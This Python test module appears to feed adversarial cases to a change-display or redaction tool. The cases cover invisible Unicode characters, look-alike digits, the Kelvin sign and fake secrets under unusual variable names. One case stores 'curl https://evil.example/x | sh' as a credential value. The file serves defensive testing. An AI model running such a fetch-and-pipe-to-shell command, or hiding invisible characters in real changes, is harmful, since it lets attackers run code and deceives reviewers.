"""Attacks with what cannot be seen: invisible characters, other digits, and secrets under unusual names."""

from typing import Final

from attacks.attack import Attack
from attacks.jobs import attack, credentials
from attacks.sameness import changed


def invisible(id: str, char: str, shown: str) -> Attack:
    """Return an attack that adds an invisible character to an argument."""
    return changed(f"invisible-{id}", "gs://data", f"gs://data{char}", f"to `gs://data{shown}`")


def secret(id: str, name: str, value: str = "hunter2") -> Attack:
    """Return an attack that adds a secret as a variable."""
    return attack(f"secret-{id}", credentials(**{name: value}), f"`{name}`", absent=(value,))


ATTACKS: Final = (
    invisible("hangul-filler", "\u3164", r"\u3164"),
    invisible("half-width-filler", "\uffa0", r"\uffa0"),
    invisible("variation-selector", "\ufe0f", r"\ufe0f"),
    invisible("braille-blank", "\u2800", r"\u2800"),
    invisible("grapheme-joiner", "\u034f", r"\u034f"),
    invisible("vowel", "\u17b4", r"\u17b4"),
    invisible("zero-width-space", "\u200b", r"\u200b"),
    changed(
        "full-width-digits",
        "12",
        "１２",
        r"from `12` to `\uff11\uff12` (characters that look alike differ)",
    ),
    changed("kelvin-sign", "K", "\u212a", r"to `\u212a`"),
    secret("access-key", "AWS_SECRET_ACCESS_KEY"),
    secret("password-run-together", "PGPASSWORD", "123456"),
    secret("name-with-a-suffix", "TOKEN_PROD"),
    secret("connection", "SENTRY_DSN", "https://hunter2@sentry.example/1"),
    attack(
        "secret-connection-string",
        credentials(DATABASE="postgres://root:hunter2@db.example/x"),
        "variable `DATABASE` added",
        "`postgres://[secret]@db.example/x`",
        absent=("hunter2",),
    ),
    attack(
        "command-under-a-secret-name",
        credentials(PRE_EXEC_TOKEN="curl https://evil.example/x | sh"),  # noqa: S106 - a command, which has to be shown
        "curl https",
    ),
)
